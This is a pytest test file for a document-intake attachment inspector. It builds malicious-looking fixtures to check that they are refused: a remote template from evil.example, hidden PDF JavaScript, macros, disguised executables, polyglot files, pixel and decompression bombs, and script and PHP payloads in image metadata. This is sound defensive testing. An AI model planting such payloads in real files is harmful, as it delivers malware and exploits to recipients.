"""What an attachment is, by its content; what could act, hide or blow up is refused with its code."""

from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image
from tests.intake import papers

from xinheng.core.attachments import Kind
from xinheng.core.refusal import Refusal
from xinheng.intake.attachments import Bounds, drawn_anew, inspect

BOUNDS = Bounds(pixels=100_000_000)
Make = Callable[[Path], Path]

TAKEN: dict[Kind, Make] = {
    Kind.PDF: papers.pdf,
    Kind.JPEG: lambda path: papers.picture(path, "JPEG"),
    Kind.PNG: lambda path: papers.picture(path, "PNG"),
    Kind.TIFF: lambda path: papers.picture(path, "TIFF"),
    Kind.OFD: lambda path: papers.package(path, papers.OFD),
    Kind.DOCX: lambda path: papers.package(path, papers.DOCX),
    Kind.XLSX: lambda path: papers.package(path, papers.XLSX),
}


def _written(content: bytes) -> Make:
    def make(path: Path) -> Path:
        path.write_bytes(content)
        return path

    return make


def _both(path: Path) -> Path:
    """A picture with an archive behind it."""
    papers.picture(path, "JPEG")
    path.write_bytes(path.read_bytes() + papers.archive_bytes())
    return path


def _pdf_and_archive(path: Path) -> Path:
    papers.pdf(path)
    path.write_bytes(path.read_bytes() + papers.archive_bytes())
    return path


def _hidden_script(path: Path) -> Path:
    """A script in an object that no cross-reference names, as a damaged file would be repaired to show it."""
    papers.pdf(path)
    whole = path.read_bytes()
    at = whole.rindex(b"startxref")
    path.write_bytes(whole[:at] + b"99 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n" + whole[at:])
    return path


def _cut(path: Path) -> Path:
    whole = papers.pdf(path).read_bytes()
    path.write_bytes(whole[: len(whole) // 2])
    return path


def _with(parts: dict[str, bytes], name: str, content: bytes = b"x") -> Make:
    return lambda path: papers.package(path, {**parts, name: content})


_RELATION = (
    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
)
REFUSED: dict[str, tuple[str, Make]] = {
    "an empty file": ("AT01", _written(b"")),
    "a program named as a paper": ("AT02", _written(b"MZ\x90\x00" + b"\0" * 200)),
    "a web page": ("AT02", _written(b"<html><script>alert(1)</script></html>")),
    "a drawing with scripts": ("AT02", _written(b'<svg xmlns="http://www.w3.org/2000/svg"/>')),
    "an old office file": ("AT02", _written(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)),
    "a program before a paper": ("AT02", _written(b"MZ" + b"%PDF-1.4\n%%EOF")),
    "an archive": ("AT03", lambda path: papers.package(path, {"a.pdf": b"%PDF-1.4"})),
    "a script in a PDF": ("AT05", papers.pdf_with_script),
    "a script that no table names": ("AT05", _hidden_script),
    "a launch action": ("AT06", papers.pdf_with_launch),
    "a file in a PDF": ("AT07", papers.pdf_with_file),
    "a macro": ("AT08", _with(papers.DOCX, "word/vbaProject.bin")),
    "a macro sheet": ("AT08", _with(papers.XLSX, "xl/macrosheets/sheet1.xml")),
    "a control": ("AT08", _with(papers.DOCX, "word/activeX/activeX1.xml")),
    "a program in a package": ("AT08", _with(papers.OFD, "Doc_0/Attachs/setup.EXE")),
    "a template from elsewhere": ("AT08", _with(papers.DOCX, "word/_rels/settings.xml.rels", _RELATION)),
    "a picture and an archive": ("AT09", _both),
    "a PDF and an archive": ("AT09", _pdf_and_archive),
    "a bomb of pixels": ("AT10", papers.bomb),
    "a bomb in a package": ("AT10", _with(papers.DOCX, "word/media/a.png", b"\0" * 30 * 2**20)),
    "a locked PDF": ("AT11", papers.pdf_locked),
    "half a PDF": ("AT12", _cut),
    "half a picture": ("AT12", _written(b"\x89PNG\r\n\x1a\n" + b"\0" * 20)),
    "half a package": ("AT12", _written(papers.archive_bytes()[:30])),
}


@pytest.mark.row("M2-04")
@pytest.mark.parametrize("kind", TAKEN)
def test_a_paper_is_known_by_its_content_whatever_it_is_called(kind: Kind, tmp_path: Path) -> None:
    assert inspect(TAKEN[kind](tmp_path / "名称.exe"), BOUNDS).kind is kind


@pytest.mark.row("M2-04")
@pytest.mark.parametrize("what", REFUSED)
def test_what_could_act_hide_or_blow_up_is_refused_with_its_code(what: str, tmp_path: Path) -> None:
    code, make = REFUSED[what]
    with pytest.raises(Refusal) as refused:
        inspect(make(tmp_path / "承诺书.pdf"), BOUNDS)
    assert refused.value.code == code
    assert refused.value.advice


def test_pages_are_counted(tmp_path: Path) -> None:
    assert inspect(papers.pdf(tmp_path / "a", pages=3), BOUNDS).pages == 3
    assert inspect(papers.picture(tmp_path / "b", "TIFF", pages=2), BOUNDS).pages == 2


def test_a_page_over_the_limit_of_pixels_is_refused_though_it_is_no_bomb(tmp_path: Path) -> None:
    path = papers.picture(tmp_path / "a.png", "PNG", size=(120, 100))
    assert inspect(path, Bounds(pixels=12_000)).kind is Kind.PNG
    with pytest.raises(Refusal, match="像素"):
        inspect(path, Bounds(pixels=11_999))


def test_a_picture_is_drawn_anew_without_what_was_hidden_in_it(tmp_path: Path) -> None:
    path, out = tmp_path / "a.jpg", tmp_path / "b.jpg"
    details = Image.Exif()
    details[0x010E] = "<script>alert(1)</script>"
    Image.new("RGB", (3000, 40)).save(path, exif=details, comment=b"<?php ?>")
    drawn_anew(path, out, kind=Kind.JPEG, page=0, longest=1600, bounds=BOUNDS)
    content = out.read_bytes()
    assert content.startswith(b"\xff\xd8\xff")
    assert b"script" not in content and b"php" not in content
    with Image.open(out) as drawn:
        assert max(drawn.size) == 1600


def test_a_child_that_takes_too_long_or_too_much_is_refused(tmp_path: Path) -> None:
    path = papers.picture(tmp_path / "a.png", "PNG", size=(4000, 4000))
    with pytest.raises(Refusal) as refused:
        inspect(path, Bounds(pixels=100_000_000, child_memory=60))
    assert refused.value.code in ("AT10", "AT12")
